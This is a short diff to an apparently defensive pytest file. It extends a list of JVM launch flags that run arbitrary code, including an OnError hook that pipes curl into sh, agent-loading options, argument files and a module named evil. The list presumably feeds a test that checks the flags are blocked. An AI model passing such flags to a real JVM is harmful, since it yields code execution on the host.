@@ -289,7 +289,10 @@ def _with_conf(conf: dict) -> dict:
 
 CODE_RUNNING_FLAGS = ["-XX:OnOutOfMemoryError=touch /tmp/pwned", "-XX:OnError=sh -c 'curl x | sh'",
                       "-javaagent:/tmp/agent.jar", "-agentpath:/tmp/libagent.so", "-agentlib:jdwp=transport=dt_socket",
-                      "-Xrunhprof", "-XX:VMOptionsFile=/tmp/more-flags", "-XX:Flags=/tmp/.hotspotrc"]
+                      "-Xrunhprof", "-XX:VMOptionsFile=/tmp/more-flags", "-XX:Flags=/tmp/.hotspotrc",
+                      # what the java launcher of the py4j mode reads: an argument file (which may hold any of
+                      # the above), and the code to run instead of bridge's gateway
+                      "@/tmp/more-flags", "-jar", "--module=evil/evil.Main", "--source"]
 
 
 @pytest.mark.parametrize("flag", CODE_RUNNING_FLAGS)
